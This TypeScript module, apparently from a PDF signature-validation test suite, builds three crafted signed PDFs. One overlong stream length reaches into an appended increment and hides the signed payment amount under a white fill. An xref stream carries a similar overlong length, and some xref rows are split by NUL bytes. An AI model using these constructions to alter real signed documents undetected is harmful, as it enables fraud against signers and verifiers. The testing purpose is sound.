/** Prepared before signing: data whose end is wrong in the signed revision, and right where the increment ends it. */
import { signPdf } from '../pki/sign-pdf.ts';
import { append, newestSection, streamText, textOf, tinyPdf } from './documents.ts';
import type { Attack, AttackWorld } from './table.ts';

/** Further than any signed revision here is long. */
const FAR = 40_000;
const SHOWN = 'BT /F1 18 Tf 40 200 Td (So tien: 1.000.000 dong) Tj ET';
const EVIL = '1 g 0 0 300 300 re f';

const CATALOG = '<< /Type /Catalog /Pages 2 0 R >>';
const PAGES = '<< /Type /Pages /Kids [3 0 R] /Count 1 /MediaBox [0 0 300 300] >>';
const PAGE = '<< /Type /Page /Parent 2 0 R /Contents [4 0 R 90 0 R] /Resources << >> >>';

/** Appends a stream, `more` in front of its end, so that `endstream` stands `FAR` bytes behind `from`. */
function reachedFrom(from: number, signed: Uint8Array, more: string): Uint8Array {
  const data = (length: number): string => `${' '.repeat(length - more.length)}${more}`;
  const start = (length: number): number =>
    textOf(append(signed, { 98: streamText(data(length)) })).lastIndexOf(`${data(length)}\nendstream`);
  const wanted = from + FAR - start(FAR);
  const length = wanted - (start(wanted) - start(FAR));
  return append(signed, { 98: streamText(data(length)) });
}

/** Readers that search for the end show the signed content first, and what follows in the file once the length fits. */
function contentStream({ signer }: AttackWorld): Uint8Array {
  const stream = `<< /Length ${FAR} >>\nstream\n${SHOWN}\nendstream`;
  const signed = signPdf(tinyPdf({ 1: CATALOG, 2: PAGES, 3: PAGE, 4: stream }), { signer });
  return reachedFrom(textOf(signed).indexOf(SHOWN), signed, EVIL);
}

/** The rows of the first section are cut short; the increment brings the one of object 90. */
function xrefStream({ signer }: AttackWorld): Uint8Array {
  const objects = [CATALOG, PAGES, PAGE, streamText(SHOWN)];
  let text = '%PDF-1.7\n';
  const offsets = objects.map((body, index) => {
    const offset = text.length;
    text += `${index + 1} 0 obj\n${body}\nendobj\n`;
    return offset;
  });
  const row = (offset: number): string => String.fromCharCode(1, offset >>> 16, (offset >>> 8) & 255, offset & 255, 0);
  const at = text.length;
  const rows = `${row(0)}${[...offsets, at].map(row).join('')}`;
  text += `5 0 obj\n<< /Type /XRef /W [1 3 1] /Index [0 6 90 1 200 ${FAR}] /Size ${FAR} /Root 1 0 R /Length ${FAR} >>\nstream\n${rows}\nendstream\nendobj\n`;
  const base = new Uint8Array(Buffer.from(`${text}startxref\n${at}\n%%EOF\n`, 'latin1'));
  return reachedFrom(textOf(base).indexOf(rows), signPdf(base, { signer }), EVIL);
}

/** A section whose rows are parted by NUL: readers disagree on whether it is one. */
function nulRows({ signed }: AttackWorld): Uint8Array {
  const note = append(signed, {});
  const text = textOf(note).slice(signed.length).replace('xref\n', `xref\n0 1\n0000000000 65535\0f \n`);
  const moved = text.replace(/startxref\n\d+/, `startxref\n${newestSection(note)}`);
  return new Uint8Array(Buffer.concat([signed, Buffer.from(moved, 'latin1')]));
}

export const lengthAttacks: readonly Attack[] = [
  { name: 'prepared: length of the content reaches into the increment', make: contentStream },
  { name: 'prepared: length of an xref stream reaches into the increment', make: xrefStream },
  { name: 'sections: rows with a NUL', make: nulRows },
];
